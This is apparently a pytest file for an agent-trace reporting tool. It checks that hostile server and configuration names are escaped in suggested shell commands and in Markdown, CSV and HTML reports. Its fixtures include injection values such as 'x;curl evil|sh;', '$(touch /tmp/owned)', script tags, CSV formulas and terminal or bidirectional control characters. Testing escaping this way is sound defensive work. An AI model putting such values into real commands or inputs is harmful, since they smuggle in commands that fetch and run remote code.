"""Text of a trace in Markdown, CSV and suggested commands: it stays text."""

from __future__ import annotations

import csv
import io
import re
import subprocess

import pytest

from groundtrace.base.visible import shell_word
from groundtrace.report.blocks import Name
from groundtrace.report.markdown import paragraph
from groundtrace.rows.unknown_tools import about_servers
from groundtrace.tables.export import csv_cell
from tests.adversarial.worlds import Call, World, line, stream

SERVERS = (
    "x;curl evil|sh;",
    "![i](https://evil/p.png)",
    "<script>alert(1)</script>",
    "a\x1b[31mb",
    "$(touch /tmp/owned)",
    "it's\nnew",
    "`ls`",
)


@pytest.mark.parametrize("name", SERVERS)
def test_a_suggested_command_runs_nothing_from_a_trace(name: str) -> None:
    """`--mcp-server x;curl …|sh;` was offered for copying."""
    said = subprocess.run(
        ["bash", "-c", f"printf %s {shell_word(name)}"], capture_output=True, check=True
    )
    assert said.stdout.decode() == name
    flags = "".join(about_servers({name: 2}))
    assert f"--mcp-server {shell_word(name)} counts" in flags or "\\" in flags


@pytest.mark.parametrize("name", SERVERS)
def test_markdown_shows_a_server_as_code(name: str) -> None:
    parts = about_servers({name: 2}, Name)
    text = paragraph(parts)
    assert "\x1b" not in text and "\n" not in text
    assert paragraph(tuple(part for part in parts if not isinstance(part, Name))).count("<") == 0


def test_text_that_is_no_name_makes_no_markup() -> None:
    """Should text of a trace get into a sentence, it makes no tag, image or link."""
    said = paragraph(("a <script>x</script> ![i](u) [t](u) \x1b[0m 1 < 2 [0.1, 0.2]",))
    for markup in ("<script", "</script", "![", "](", "\x1b"):
        assert markup not in said
    assert "1 < 2 [0.1, 0.2]" in said


def test_servers_with_markup_in_a_whole_report(world: World, groundtrace: Call) -> None:
    """The report of a trace whose servers have hostile names."""
    text = stream("/workspace/src/a.py")
    for number, name in enumerate(SERVERS):
        tool = f"mcp__{name}__do"
        use = {"type": "tool_use", "id": f"toolu_9{number}", "name": tool, "input": {"q": "x"}}
        text += line(type="assistant", message={"id": f"x{number}", "model": "m", "content": [use]})
    world.trial("good-1", config="hostile", trace=text)
    ran = world.evaluate(groundtrace, "-v")
    assert ran.code == 0 and "\x1b" not in ran.err + ran.out
    report = (world.results / "retrieval_report.md").read_text(encoding="utf-8")
    outside = re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", "", report, flags=re.DOTALL)
    for markup in ("<script", "![i]", "\x1b", "curl evil"):
        assert markup not in outside


@pytest.mark.parametrize("text", ["a\r=1+1", "a\r\n=1+1", "\x1b]0;x\x07", "=1", "\r=1", "＝1"])
def test_a_cell_is_one_cell_and_no_formula(text: str) -> None:
    """A bare carriage return began a second row, with a formula in it."""
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\n").writerow([csv_cell(text), "end"])
    written = stream.getvalue()
    assert "\r" not in written and "\x1b" not in written
    ((cell, end),) = csv.reader(io.StringIO(written))
    assert end == "end" and not cell.startswith(("=", "＝", "+", "-", "@"))


def test_no_name_turns_the_text_of_a_page_around(world: World, groundtrace: Call) -> None:
    """The keys of colours and the heads of columns showed names of configurations as they are."""
    for task in ("good-1", "good-2"):
        world.task(task)
        for config in ("a\u202eb\x1b[31m", "c\u200f"):
            world.trial(task, config=config)
    ran = world.evaluate(groundtrace, "--format", "html", "--draws", 100)
    assert ran.code == 0, ran.err
    text = next(world.out.rglob("retrieval_report.html")).read_text(encoding="utf-8")
    assert "a\\u202eb\\x1b[31m" in text
    assert not {"\u202e", "\u200f", "\x1b"} & set(text)
